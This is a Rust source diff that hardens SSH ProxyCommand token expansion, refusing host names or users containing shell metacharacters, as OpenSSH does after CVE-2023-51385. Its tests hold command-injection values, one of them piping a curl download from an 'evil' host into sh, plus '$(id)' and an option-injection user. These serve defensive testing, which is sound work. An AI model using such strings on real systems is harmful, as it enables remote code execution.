@@ -13,8 +13,9 @@
 
 use super::ssh_config::expand_percent;
 use super::vars::Vars;
-use super::{Host, Proxy, RawHost};
+use super::{Host, RawHost};
 use crate::ssh::jump::parse_chain;
+use crate::untrusted::terminal_safe;
 
 /// Jump hosts a host may sit behind, nested chains included: far beyond any
 /// real site; a ProxyJump loop in ~/.ssh/config stops here.
@@ -36,22 +37,21 @@ pub(super) fn jump_hosts(
     }
     let mut hops = Vec::with_capacity(jumps.len());
     for (index, jump) in jumps.into_iter().enumerate() {
+        // `ssh -J a b` gives b the rest of the chain on its command line
+        // (`-J none` here, as b is reached over a's channel): b's own
+        // ProxyJump or ProxyCommand is never read.
+        let proxy_jump = (index > 0).then(|| "none".to_owned());
         let raw = RawHost {
             name: jump.address,
             vars: Vars {
                 user: jump.user,
                 port: jump.port,
+                proxy_jump,
                 ..Vars::default()
             },
             groups: Vec::new(),
         };
-        let mut hop = resolve(raw, depth + index + 1);
-        if index > 0 {
-            // `ssh -J a b` gives b the rest of the chain on its command
-            // line: b's own ProxyJump or ProxyCommand never applies.
-            hop.proxy = Proxy::Direct;
-            hop.proxy_jump = None;
-        }
+        let hop = resolve(raw, depth + index + 1);
         if let Some(why) = &hop.refused {
             return Err(format!("jump host {}: {why}", hop.name));
         }
@@ -74,23 +74,51 @@ pub(super) struct Tokens<'a> {
 }
 
 /// `command` with `%h %p %r %n %%` expanded as OpenSSH does; any other
-/// token refuses the host, naming it.
+/// token refuses the host, naming it. So does a name or user that a shell
+/// would read as more than a word (`;`, `$(...)`, quotes, spaces, ...):
+/// the command runs under a shell, and OpenSSH refuses such names too
+/// (CVE-2023-51385).
 pub(super) fn expand_command(command: &str, tokens: &Tokens) -> Result<String, String> {
-    expand_percent(command, |token| {
+    let mut unsafe_value = None;
+    let mut word = |what: &'static str, value: &str| {
+        if !shell_word(value) {
+            unsafe_value.get_or_insert((what, value.to_owned()));
+        }
+        value.to_owned()
+    };
+    let expanded = expand_percent(command, |token| {
         Some(match token {
-            'h' => tokens.host_name.to_owned(),
+            'h' => word("host name", tokens.host_name),
             'p' => tokens.port.to_string(),
-            'r' => tokens.user.to_owned(),
-            'n' => tokens.name.to_owned(),
+            'r' => word("user", tokens.user),
+            'n' => word("host name", tokens.name),
             _ => return None,
         })
-    })
-    .map_err(|token| {
+    });
+    let shown = terminal_safe(command);
+    let expanded = expanded.map_err(|token| {
         let token = token.map_or_else(|| "%".to_owned(), |c| format!("%{c}"));
         format!(
-            "`ProxyCommand {command}` uses the token `{token}`, which swpush does not expand (it expands %h %p %r %n %%)"
+            "`ProxyCommand {shown}` uses the token `{token}`, which swpush does not expand (it expands %h %p %r %n %%)"
         )
-    })
+    })?;
+    match unsafe_value {
+        Some((what, value)) => Err(format!(
+            "`ProxyCommand {shown}`: the {what} {:?} holds characters a shell would interpret; not putting it into the command (OpenSSH refuses it too)",
+            terminal_safe(&value)
+        )),
+        None => Ok(expanded),
+    }
+}
+
+/// OpenSSH's test for a name or user it may put into a shell command
+/// (`valid_hostname`, `valid_ruser`): no leading `-`, no space or control
+/// character, none of ``'`"$\;&<>|(){},``.
+fn shell_word(value: &str) -> bool {
+    !value.starts_with('-')
+        && !value
+            .chars()
+            .any(|c| c.is_whitespace() || c.is_control() || "'`\"$\\;&<>|(){},".contains(c))
 }
 
 #[cfg(test)]
@@ -109,6 +137,25 @@ mod tests {
             expand_command("ssh -W %h:%p -l %r bastion # %n 100%%", &tokens).as_deref(),
             Ok("ssh -W 10.0.0.5:2222 -l deploy bastion # web1 100%")
         );
+        for (field, value) in [
+            ("host_name", "x;curl${IFS}evil|sh;.internal"),
+            ("host_name", "$(id)"),
+            ("name", "a b"),
+            ("user", "u`id`"),
+            ("user", "-oProxyCommand=x"),
+        ] {
+            let mut hostile = Tokens { ..tokens };
+            match field {
+                "host_name" => hostile.host_name = value,
+                "name" => hostile.name = value,
+                _ => hostile.user = value,
+            }
+            let error = expand_command("ssh -W %h:%p -l %r gw # %n", &hostile).expect_err(value);
+            assert!(
+                error.contains("a shell would interpret"),
+                "{value}: {error}"
+            );
+        }
         for bad in ["nc %C", "nc %h %", "nc %d"] {
             let error = expand_command(bad, &tokens).expect_err(bad);
             assert!(error.contains("does not expand"), "{bad}: {error}");
